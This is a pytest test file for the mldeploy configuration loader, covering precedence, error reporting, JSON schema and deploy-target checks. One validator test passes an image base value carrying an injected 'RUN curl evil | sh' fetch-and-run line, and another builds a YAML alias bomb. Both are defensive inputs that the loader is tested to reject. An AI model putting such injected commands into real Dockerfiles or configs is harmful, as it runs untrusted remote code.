"""Unit tests for mldeploy.config: loading, precedence, error reporting and the JSON schema."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from mldeploy.config import ConfigError, json_schema, load_config, require_deploy_keys
from mldeploy.errors import UsageError
from tests.helpers.need import need

ROLE = "arn:aws:iam::123456789012:role/mldeploy"



@pytest.fixture(autouse=True)
def _isolated_cwd(tmp_path, monkeypatch):
    # load_config(None) falls back to ./mldeploy.yaml: never pick up one from the real cwd.
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.delenv("MLDEPLOY_CONFIG", raising=False)


def write(tmp_path: Path, text: str, name: str = "mldeploy.yaml") -> Path:
    p = tmp_path / "repo" / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return p


def problems_of(path, **kw) -> list[tuple]:
    with pytest.raises(ConfigError) as exc:
        load_config(path, environ=kw.pop("environ", {}), **kw)
    return exc.value.problems


def only_problem(path, **kw) -> tuple:
    problems = problems_of(path, **kw)
    assert len(problems) == 1, problems
    return problems[0]


# ---------------------------------------------------------------------------- loading a file

def test_defaults_without_any_file():
    cfg = load_config(None, environ={})
    assert cfg.version == 1
    assert cfg.bundle == ".mldeploy/bundle"
    assert cfg.model.framework == "auto"
    assert cfg.parity.atol == pytest.approx(1e-4)
    assert cfg.parity.rtol == pytest.approx(1e-3)
    assert cfg.inputs == []
    assert cfg.deploy.cloud == "local"
    assert cfg.deploy.target == "docker"


def test_default_file_in_cwd_is_used(tmp_path):
    Path("mldeploy.yaml").write_text("parity:\n  seed: 42\n")
    assert load_config(None, environ={}).parity.seed == 42


def test_config_path_from_env_var(tmp_path):
    p = write(tmp_path, "parity:\n  seed: 7\n", name="other.yaml")
    assert load_config(None, environ={"MLDEPLOY_CONFIG": str(p)}).parity.seed == 7


def test_file_values_are_loaded(tmp_path):
    p = write(tmp_path, """
        version: 1
        model:
          framework: onnx
          opset: 17
        inputs:
          - name: pixels
            dtype: float16
            shape: [batch, 3, 224, 224]
          - name: ids
            dtype: int64
            shape: [batch, seq]
            range: [0, 30000]
        parity:
          atol: 0.01
          batch_size: 16
        deploy:
          cloud: gcp
          target: cloudrun
    """)
    cfg = load_config(p, environ={})
    assert cfg.model.framework == "onnx"
    assert cfg.model.opset == 17
    assert [i.name for i in cfg.inputs] == ["pixels", "ids"]
    assert cfg.inputs[0].dtype == "float16"
    assert cfg.inputs[0].shape == ["batch", 3, 224, 224]
    assert cfg.inputs[1].range == (0, 30000)
    assert cfg.parity.atol == pytest.approx(0.01)
    assert cfg.parity.batch_size == 16
    assert (cfg.deploy.cloud, cfg.deploy.target) == ("gcp", "cloudrun")


def test_paths_in_file_resolve_against_the_files_folder(tmp_path):
    p = write(tmp_path, """
        bundle: out/bundle
        model:
          path: models/net.onnx
        parity:
          sample: data/sample.npz
        image:
          dockerfile: docker/Dockerfile
    """)
    cfg = load_config(p, environ={})
    folder = p.parent
    assert Path(cfg.bundle) == folder / "out/bundle"
    assert Path(cfg.model.path) == folder / "models/net.onnx"
    assert Path(cfg.parity.sample) == folder / "data/sample.npz"
    assert Path(cfg.image.dockerfile) == folder / "docker/Dockerfile"


def test_absolute_paths_in_file_are_kept(tmp_path):
    absolute = tmp_path / "elsewhere" / "net.onnx"
    p = write(tmp_path, f"model:\n  path: {absolute}\n")
    assert Path(load_config(p, environ={}).model.path) == absolute


def test_paths_from_env_and_overrides_stay_relative_to_cwd(tmp_path):
    p = write(tmp_path, "model:\n  path: in_file.onnx\n")
    cfg = load_config(p, environ={"MLDEPLOY_PARITY__SAMPLE": "s.npz"},
                      overrides={"model.path": "flag.onnx"})
    assert cfg.model.path == "flag.onnx"
    assert cfg.parity.sample == "s.npz"


def test_relative_config_path_resolves_paths_against_its_folder(tmp_path):
    write(tmp_path, "model:\n  path: models/net.onnx\n")
    cfg = load_config("../repo/mldeploy.yaml", environ={})  # cwd is tmp_path/cwd
    assert Path(cfg.model.path).resolve() == (tmp_path / "repo" / "models" / "net.onnx").resolve()


def test_empty_file_gives_defaults(tmp_path):
    p = write(tmp_path, "# only a comment\n")
    cfg = load_config(p, environ={})
    assert cfg.parity.seed == 0
    assert cfg.deploy.target == "docker"


# ---------------------------------------------------------------------------- precedence

def test_precedence_overrides_env_file_defaults(tmp_path):
    p = write(tmp_path, """
        parity:
          atol: 0.1
          rtol: 0.2
          seed: 3
    """)
    environ = {"MLDEPLOY_PARITY__RTOL": "0.5", "MLDEPLOY_PARITY__SEED": "9"}
    cfg = load_config(p, environ=environ, overrides={"parity.seed": 11})
    assert cfg.parity.atol == pytest.approx(0.1)    # file only
    assert cfg.parity.rtol == pytest.approx(0.5)    # env beats file
    assert cfg.parity.seed == 11                    # override beats env and file
    assert cfg.parity.batch_size == 8               # default


def test_env_beats_file_and_parses_yaml_scalars(tmp_path):
    p = write(tmp_path, "optimize:\n  enabled: true\nmodel:\n  opset: 17\n")
    environ = {"MLDEPLOY_OPTIMIZE__ENABLED": "false", "MLDEPLOY_MODEL__OPSET": "13",
               "MLDEPLOY_MODEL__DIM_SIZES": "{seq: 16}"}
    cfg = load_config(p, environ=environ)
    assert cfg.optimize.enabled is False
    assert cfg.model.opset == 13
    assert cfg.model.dim_sizes == {"seq": 16}


def test_env_path_with_hash_is_kept_whole():
    cfg = load_config(None, environ={"MLDEPLOY_MODEL__PATH": "my model #2.onnx"})
    assert cfg.model.path == "my model #2.onnx"


def test_env_numeric_text_for_string_key():
    cfg = load_config(None, environ={"MLDEPLOY_DEPLOY__ENDPOINT": "2024"})
    assert cfg.deploy.endpoint == "2024"


def test_none_override_does_not_mask_lower_layers(tmp_path):
    p = write(tmp_path, "parity:\n  seed: 5\n")
    cfg = load_config(p, environ={"MLDEPLOY_PARITY__ATOL": "0.3"},
                      overrides={"parity.seed": None, "parity.atol": None})
    assert cfg.parity.seed == 5
    assert cfg.parity.atol == pytest.approx(0.3)


def test_env_vars_without_prefix_or_separator_are_ignored(tmp_path):
    cfg = load_config(None, environ={"PARITY__SEED": "4", "MLDEPLOY_SEED": "4", "OTHER": "x"})
    assert cfg.parity.seed == 0


def test_override_of_cloud_gets_that_clouds_default_target(tmp_path):
    p = write(tmp_path, "deploy:\n  cloud: local\n")
    cfg = load_config(p, environ={}, overrides={"deploy.cloud": "azure"})
    assert cfg.deploy.target == "azureml"


@pytest.mark.parametrize("cloud, target", [
    ("aws", "sagemaker"), ("gcp", "vertex"), ("azure", "azureml"), ("local", "docker")])
def test_default_target_per_cloud(tmp_path, cloud, target):
    p = write(tmp_path, f"deploy:\n  cloud: {cloud}\n  aws: {{role: '{ROLE}'}}\n")
    assert load_config(p, environ={}).deploy.target == target


@pytest.mark.parametrize("cloud, target", [
    ("aws", "lambda"), ("gcp", "cloudrun"), ("local", "docker")])
def test_explicit_target_that_fits_is_kept(tmp_path, cloud, target):
    p = write(tmp_path, f"deploy:\n  cloud: {cloud}\n  target: {target}\n  aws: {{role: '{ROLE}'}}\n")
    assert load_config(p, environ={}).deploy.target == target


# ---------------------------------------------------------------------------- problems

def test_unknown_key_with_did_you_mean(tmp_path):
    p = write(tmp_path, """
        model:
          path: m.onnx
          framwork: torch
    """)
    file, line, message = only_problem(p)
    assert file == str(p)
    assert line == 3
    assert "model.framwork" in message
    assert "unknown key" in message
    assert "did you mean 'framework'" in message


def test_unknown_top_level_key_with_did_you_mean(tmp_path):
    p = write(tmp_path, "version: 1\nparitty:\n  atol: 1\n")
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 2)
    assert "paritty" in message and "did you mean 'parity'" in message


def test_unknown_key_inside_list_item(tmp_path):
    p = write(tmp_path, """
        inputs:
          - name: x
            shape: [1]
            dtyp: int64
    """)
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 4)
    assert "inputs.0.dtyp" in message and "did you mean 'dtype'" in message


def test_unknown_key_without_close_match_lists_known_keys(tmp_path):
    p = write(tmp_path, "deploy:\n  zzzzzz: 1\n")
    _, line, message = only_problem(p)
    assert line == 2
    assert "deploy.zzzzzz" in message
    assert "known keys:" in message and "cloud" in message and "target" in message


def test_bad_dtype(tmp_path):
    p = write(tmp_path, """
        inputs:
          - name: x
            dtype: float33
            shape: [batch, 3]
    """)
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 3)
    assert "inputs.0.dtype" in message
    assert '"float33"' in message             # the value found
    assert "float32" in message and "bool" in message  # what was expected


def test_bad_framework(tmp_path):
    p = write(tmp_path, "model:\n  framework: jax\n")
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 2)
    assert "model.framework" in message
    assert '"jax"' in message
    for allowed in ("auto", "torch", "tensorflow", "onnx"):
        assert allowed in message


@pytest.mark.parametrize("dim_yaml, dim_repr", [("0", "0"), ("-1", "-1"), ('"bad name!"', "'bad name!'")])
def test_bad_shape_dim(tmp_path, dim_yaml, dim_repr):
    p = write(tmp_path, f"""
        inputs:
          - name: x
            shape: [batch, {dim_yaml}, 4]
    """)
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 3)
    assert "inputs.0.shape" in message
    assert "positive size or a name" in message
    assert f"not {dim_repr}" in message


def test_bool_is_not_a_shape_dim(tmp_path):
    p = write(tmp_path, "inputs:\n  - name: x\n    shape: [batch, true]\n")
    _, _, message = only_problem(p)
    assert "inputs.0.shape" in message and "not True" in message


def test_tolerance_that_is_not_a_number(tmp_path):
    p = write(tmp_path, "parity:\n  rtol: 0.1\n  atol: tiny\n")
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 3)
    assert "parity.atol" in message
    assert "number" in message
    assert '"tiny"' in message


def test_negative_tolerance(tmp_path):
    p = write(tmp_path, "parity:\n  atol: -1\n")
    _, line, message = only_problem(p)
    assert line == 2
    assert "parity.atol" in message and "-1" in message and "greater than or equal to 0" in message


@pytest.mark.parametrize("cloud, target, allowed", [
    ("aws", "vertex", "sagemaker, lambda"),
    ("gcp", "sagemaker", "vertex, cloudrun"),
    ("local", "azureml", "docker"),
])
def test_target_that_does_not_fit_the_cloud(tmp_path, cloud, target, allowed):
    p = write(tmp_path, f"deploy:\n  cloud: {cloud}\n  target: {target}\n")
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 3)
    assert "deploy.target" in message
    assert f"'{target}' does not run on cloud {cloud}" in message
    assert f"expected one of {allowed}" in message


def test_target_for_bad_cloud_reports_only_the_cloud(tmp_path):
    p = write(tmp_path, "deploy:\n  cloud: mars\n  target: docker\n")
    _file, line, message = only_problem(p)
    assert line == 2
    assert "deploy.cloud" in message and '"mars"' in message


def test_duplicate_input_names(tmp_path):
    p = write(tmp_path, """
        parity:
          seed: 1
        inputs:
          - name: a
            shape: [1]
          - name: b
            shape: [1]
          - name: a
            shape: [2]
    """)
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 3)
    assert message.startswith("inputs:")
    assert "unique" in message and "repeated: a;" in message  # only 'a', not 'b'


def test_several_problems_are_all_reported_in_file_order_of_keys(tmp_path):
    p = write(tmp_path, """
        model:
          framework: jax
        parity:
          atol: x
        deploy:
          cloud: aws
          target: vertex
    """)
    problems = problems_of(p)
    found = {m.split(":")[0]: line for _, line, m in problems}
    assert found == {"model.framework": 2, "parity.atol": 4, "deploy.target": 7}
    assert all(f == str(p) for f, _, _ in problems)


def test_config_error_is_a_usage_error_with_first_place(tmp_path):
    p = write(tmp_path, "parity:\n  atol: x\n  rtol: y\n")
    with pytest.raises(UsageError) as exc:
        load_config(p, environ={})
    err = exc.value
    assert isinstance(err, ConfigError)
    assert len(err.problems) == 2
    assert err.file == str(p) and err.line == 2
    assert "(and 1 more)" in err.message
    assert err.one_line().startswith(f"{p}:2: parity.atol")


def test_invalid_yaml_syntax_is_usage_error_with_line(tmp_path):
    p = write(tmp_path, "model:\n  path: [unclosed\nparity:\n  atol: 1\n")
    with pytest.raises(UsageError) as exc:
        load_config(p, environ={})
    err = exc.value
    assert not isinstance(err, ConfigError)
    assert err.file == str(p)
    assert isinstance(err.line, int) and 2 <= err.line <= 3
    assert err.message.startswith("invalid YAML")


def test_tab_indentation_is_invalid_yaml(tmp_path):
    p = write(tmp_path, "model:\n\tpath: x\n")
    with pytest.raises(UsageError) as exc:
        load_config(p, environ={})
    assert exc.value.file == str(p)
    assert exc.value.line == 2
    assert "invalid YAML" in exc.value.message


def test_duplicate_yaml_keys(tmp_path):
    p = write(tmp_path, "parity:\n  atol: 1\n  seed: 2\n  atol: 3\n")
    with pytest.raises(UsageError) as exc:
        load_config(p, environ={})
    err = exc.value
    assert err.file == str(p)
    assert "duplicate" in err.message and "atol" in err.message
    assert err.line == 4


def test_top_level_list_is_rejected(tmp_path):
    p = write(tmp_path, "- model\n- parity\n")
    with pytest.raises(UsageError) as exc:
        load_config(p, environ={})
    err = exc.value
    assert (err.file, err.line) == (str(p), 1)
    assert "top level must be a mapping" in err.message


def test_top_level_list_message_says_list(tmp_path):
    p = write(tmp_path, "- model\n- parity\n")
    with pytest.raises(UsageError) as exc:
        load_config(p, environ={})
    assert "CommentedSeq" not in exc.value.message
    assert "list" in exc.value.message


def test_top_level_scalar_is_rejected(tmp_path):
    p = write(tmp_path, "just a string\n")
    with pytest.raises(UsageError) as exc:
        load_config(p, environ={})
    assert "top level must be a mapping" in exc.value.message
    assert "str" in exc.value.message


def test_env_var_with_bad_value_names_the_env_var(tmp_path):
    p = write(tmp_path, "parity:\n  atol: 0.1\n")
    file, line, message = only_problem(p, environ={"MLDEPLOY_PARITY__ATOL": "lots"})
    assert file is None and line is None  # the file is not to blame
    assert "MLDEPLOY_PARITY__ATOL" in message
    assert "parity.atol" in message and '"lots"' in message and "number" in message


def test_env_var_with_unknown_key_names_the_env_var(tmp_path):
    _, _, message = only_problem(None, environ={"MLDEPLOY_DEPLOY__CLOUDD": "aws"})
    assert "MLDEPLOY_DEPLOY__CLOUDD" in message
    assert "did you mean 'cloud'" in message


def test_override_with_bad_value_names_the_flag(tmp_path):
    _, _, message = only_problem(None, overrides={"parity.batch_size": 1})
    assert message.startswith("--batch-size: parity.batch_size")
    assert "found 1" in message


def test_explicit_config_path_that_does_not_exist(tmp_path):
    missing = tmp_path / "nope.yaml"
    with pytest.raises(UsageError) as exc:
        load_config(missing, environ={})
    assert not isinstance(exc.value, ConfigError)
    assert str(missing) in exc.value.message and "not found" in exc.value.message


def test_config_env_var_pointing_nowhere(tmp_path):
    missing = tmp_path / "nope.yaml"
    with pytest.raises(UsageError) as exc:
        load_config(None, environ={"MLDEPLOY_CONFIG": str(missing)})
    assert str(missing) in exc.value.message


def test_config_path_that_is_a_folder(tmp_path):
    with pytest.raises(UsageError):
        load_config(tmp_path, environ={})


def test_version_2_is_rejected(tmp_path):
    p = write(tmp_path, "version: 2\nparity:\n  seed: 1\n")
    file, line, message = only_problem(p)
    assert (file, line) == (str(p), 1)
    assert message.startswith("version:")
    assert "expected 1" in message and "found 2" in message


# ---------------------------------------------------------------------------- JSON schema

def _walk_refs(node, found):
    if isinstance(node, dict):
        ref = node.get("$ref")
        if isinstance(ref, str):
            found.append(ref)
        for v in node.values():
            _walk_refs(v, found)
    elif isinstance(node, list):
        for v in node:
            _walk_refs(v, found)
    return found


def test_json_schema_is_structurally_valid():
    schema = json_schema()
    json.loads(json.dumps(schema))  # plain JSON
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["type"] == "object"
    assert schema["additionalProperties"] is False
    for key in ("version", "model", "inputs", "parity", "deploy"):
        assert key in schema["properties"], key
    # Every $ref points at a definition that exists.
    refs = _walk_refs(schema, [])
    assert refs
    for ref in refs:
        assert ref.startswith("#/$defs/"), ref
        assert ref.removeprefix("#/$defs/") in schema["$defs"], ref


def test_json_schema_describes_constraints():
    schema = json_schema()
    defs = schema["$defs"]
    input_spec = defs["InputSpec"]
    assert set(input_spec["properties"]["dtype"]["enum"]) >= {"float32", "int64", "bool"}
    assert input_spec["additionalProperties"] is False
    assert "float32" in json.dumps(input_spec)
    deploy = defs["DeploySection"]["properties"]
    assert set(deploy["cloud"]["enum"]) == {"local", "aws", "gcp", "azure", "kubernetes"}


def test_json_schema_validates_like_editors_do():
    jsonschema = need("jsonschema", "the dev extra installs it")
    schema = json_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    good = {"version": 1, "inputs": [{"name": "x", "shape": ["batch", 3]}], "deploy": {"cloud": "aws"}}
    assert not list(validator.iter_errors(good))
    assert list(validator.iter_errors({"version": 1, "modle": {}}))
    from ruamel.yaml import YAML
    example = Path(__file__).resolve().parents[2] / "examples" / "model-repo" / "mldeploy.yaml"
    assert not list(validator.iter_errors(YAML(typ="safe").load(example.read_text())))


def test_monitoring_paths_are_relative_to_the_config_file_and_uris_stay(tmp_path):
    from mldeploy.config import load_config

    folder = tmp_path / "repo"
    folder.mkdir()
    (folder / "mldeploy.yaml").write_text("version: 1\nmonitoring:\n  baseline: stats/baseline.json\n"
                                          "  drift:\n    capture: s3://bucket/capture/\n")
    cfg = load_config(str(folder / "mldeploy.yaml"))
    assert cfg.monitoring.baseline == str(folder / "stats" / "baseline.json")
    assert cfg.monitoring.drift.capture == "s3://bucket/capture/"


# ---------------------------------------------------------------------------- container environment

@pytest.mark.parametrize("section, settings, message", [
    ("image", "{MLDEPLOY_WORKER: '2'}", "MLDEPLOY_WORKER is not a serving setting (did you mean MLDEPLOY_WORKERS?)"),
    ("image", "{MLDEPLOY_WORKERS: two}", "MLDEPLOY_WORKERS='two' is not a whole number"),
    ("image", "{MLDEPLOY_BATCHING: sometimes}", "MLDEPLOY_BATCHING='sometimes' must be auto, on or off"),
    ("image", "{MLDEPLOY_BUNDLE: /m}", "MLDEPLOY_BUNDLE is set by the image"),
    ("image", "{PORT: '9000'}", "PORT is set by the image or the cloud it runs on"),
    ("image", "{AIP_HTTP_PORT: '9000'}", "AIP_HTTP_PORT is set by the image or the cloud it runs on"),
    ("image", "{MLDEPLOY_API_KEYS: k0123456789abcdef}", "MLDEPLOY_API_KEYS would be readable by whoever pulls"),
    ("image", "{MLDEPLOY_MODEL_URI: 's3://b/m'}", "MLDEPLOY_MODEL_URI is set by the deploy, from the bundle it serves"),
    ("image", "{TZ: \"a\\nb\"}", "a value spans lines"),
    ("image", "{OMP_WAIT_POLICY: PASSIVE}", ("OMP_WAIT_POLICY is not a serving setting: the image's environment holds "
                                             "MLDEPLOY_* settings only")),
    ("deploy.aws.lambda", "{AWS_REGION: eu-west-1}", "AWS_REGION is set by Lambda itself"),
    ("deploy.aws.lambda", "{MLDEPLOY_MAX_BATCH: '0'}", "MLDEPLOY_MAX_BATCH=0 is out of range"),
    ("deploy.gcp.cloudrun", "{MLDEPLOY_ACCESS_LOG: maybe}", "MLDEPLOY_ACCESS_LOG='maybe' must be true or false"),
    ("deploy.gcp.cloudrun", "{MLDEPLOY_API_KEYS: k0123456789abcdef}", "keep them in Secret Manager"),
])
def test_container_environment_is_checked_when_the_config_loads(tmp_path, section, settings, message):
    nested = "".join(f"{'  ' * i}{key}:\n" for i, key in enumerate(section.split(".")))
    p = write(tmp_path, nested + "  " * section.count(".") + f"  environment: {settings}\n")
    _, _, got = only_problem(p)
    assert message in got, got


def test_cloud_run_secret_names_are_checked_but_not_their_values(tmp_path):
    p = write(tmp_path, "deploy:\n  gcp:\n    cloudrun:\n      secrets: {MLDEPLOY_API_KEYS: api-keys:3}\n")
    assert load_config(p, environ={}).deploy.gcp.cloudrun.secrets == {"MLDEPLOY_API_KEYS": "api-keys:3"}
    p = write(tmp_path, "deploy:\n  gcp:\n    cloudrun:\n      secrets: {MLDEPLOY_API_KEY: api-keys}\n")
    assert "MLDEPLOY_API_KEY is not a serving setting (did you mean MLDEPLOY_API_KEYS?)" in only_problem(p)[2]


def test_image_environment_is_kept_and_needs_our_dockerfile(tmp_path):
    every = {"MLDEPLOY_WORKERS": "2", "MLDEPLOY_RATE_BURST": "5", "MLDEPLOY_API_KEYS_FILE": "/run/keys"}
    # a burst without a rate is still a known name; the keys file is not read
    p = write(tmp_path, f"image:\n  environment: {json.dumps(every)}\n")
    assert load_config(p, environ={}).image.environment == every
    p = write(tmp_path, "image:\n  dockerfile: Dockerfile\n  environment: {MLDEPLOY_WORKERS: '2'}\n")
    assert "with your own dockerfile, set ENV there" in only_problem(p)[2]


def test_a_yaml_alias_bomb_is_refused_before_it_expands(tmp_path):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
    p = write(tmp_path, bomb)
    with pytest.raises(UsageError) as e:
        load_config(p, environ={})
    assert "anchors and aliases are not accepted" in e.value.one_line() and e.value.line == 1


@pytest.mark.parametrize("base", ["python:3.11-slim\nRUN curl evil | sh", "Python:3.11", "python 3.11", "a@sha256:12"])
def test_image_base_must_be_an_image_reference(tmp_path, base):
    p = write(tmp_path, "image:\n  base: " + json.dumps(base) + "\n")
    assert "expected an image reference" in only_problem(p)[2]


@pytest.mark.parametrize("base", ["python:3.11-slim", "127.0.0.1:5000/mldeploy/base:v1",
                                  "registry.example.com/team/py@sha256:" + "a" * 64])
def test_image_base_accepts_references(tmp_path, base):
    assert load_config(write(tmp_path, f"image:\n  base: {base}\n"), environ={}).image.base == base


@pytest.mark.parametrize("target", ["sagemaker", "lambda"])
def test_an_aws_target_without_a_role_fails_before_a_deploy_plans(tmp_path, target):
    p = write(tmp_path, f"deploy:\n  cloud: aws\n  target: {target}\n")
    cfg = load_config(p, environ={})  # reading commands (status, doctor, drift) need no role
    with pytest.raises(UsageError) as e:
        require_deploy_keys(cfg, p)
    assert f"deploy.aws.role is not set: {target} needs" in e.value.one_line() and e.value.line == 3
    require_deploy_keys(load_config(write(tmp_path, f"deploy:\n  cloud: aws\n  aws: {{role: '{ROLE}'}}\n"),
                                    environ={}), p)


@pytest.mark.parametrize("section, text, message", [
    ("aws", f"aws: {{role: '{ROLE}', sagemaker: {{data_capture_percent: 20}}}}",
     "data_capture_percent is set but data_capture_s3 is not"),
    ("gcp", "gcp: {vertex: {accelerator_count: 1}}", "accelerator_count is set but accelerator_type is not"),
    ("gcp", "gcp: {vertex: {min_replicas: 3, max_replicas: 2}}", "max_replicas (2) is below min_replicas (3)"),
])
def test_settings_a_target_needs_together_fail_when_the_config_loads(tmp_path, section, text, message):
    # checked before any cloud call, so `deploy --plan` never prints a plan that apply would refuse
    _file, line, problem = only_problem(write(tmp_path, f"deploy:\n  cloud: {section}\n  {text}\n"))
    assert message in problem and line == 3, (line, problem)


@pytest.mark.parametrize("text, message", [
    ("deploy: {cloud: aws, target: lambda, aws: {lambda: {environment: {MLDEPLOY_WORKERS: '2'}}}}",
     "MLDEPLOY_WORKERS does nothing on Lambda"),
    ("image: {environment: {MLDEPLOY_BODY_TIMEOUT: '5'}}\ndeploy: {cloud: aws, target: lambda}",
     "MLDEPLOY_BODY_TIMEOUT does nothing on Lambda"),
    ("image: {environment: {MLDEPLOY_GRPC_PORT: '8081'}}\ndeploy: {cloud: aws, target: lambda}",
     "MLDEPLOY_GRPC_PORT does nothing on Lambda"),
    ("image: {environment: {MLDEPLOY_API_KEYS_FILE: /run/keys}}\ndeploy: {cloud: gcp, target: vertex}",
     "would answer 401 to vertex's own calls"),
])
def test_settings_a_target_would_ignore_or_be_locked_out_by_are_refused(tmp_path, text, message):
    assert message in only_problem(write(tmp_path, text + "\n"))[2]


def test_settings_a_target_reads_are_kept(tmp_path):
    p = write(tmp_path, "deploy: {cloud: aws, target: lambda, aws: {lambda: {environment: "
                        "{MLDEPLOY_RATE_LIMIT: 5/s, MLDEPLOY_NONFINITE: reject}}}}\n")
    assert load_config(p, environ={}).deploy.aws.lambda_.environment["MLDEPLOY_RATE_LIMIT"] == "5/s"


# ---------------------------------------------------------------------------- models in object storage
def test_storage_mode_needs_a_uri_that_fits_the_cloud(tmp_path):
    assert load_config(None, environ={}).image.model == "baked"   # today's behaviour stays the default
    file, line, message = only_problem(write(tmp_path, "image:\n  model: storage\n"))
    assert file.endswith("mldeploy.yaml") and "image.model is storage but storage.uri is not set" in message
    file, line, message = only_problem(write(tmp_path, "deploy:\n  cloud: gcp\nstorage:\n  uri: s3://models/team\n"))
    assert line == 3 and "uri s3://models/team does not fit deploy.cloud gcp: expected gs://..." in message
    file, line, message = only_problem(write(tmp_path, "storage:\n  uri: ftp://models\n  keep: 3\n"))
    assert line == 2 and message.startswith("storage.uri: expected s3://BUCKET/PREFIX")
    cfg = load_config(write(tmp_path, "deploy:\n  cloud: azure\nimage:\n  model: storage\nstorage:\n"
                                      "  uri: https://acme.blob.core.windows.net/models/team/\n  keep: 3\n"), environ={})
    assert (cfg.image.model, cfg.storage.uri, cfg.storage.keep) == (
        "storage", "https://acme.blob.core.windows.net/models/team", 3)
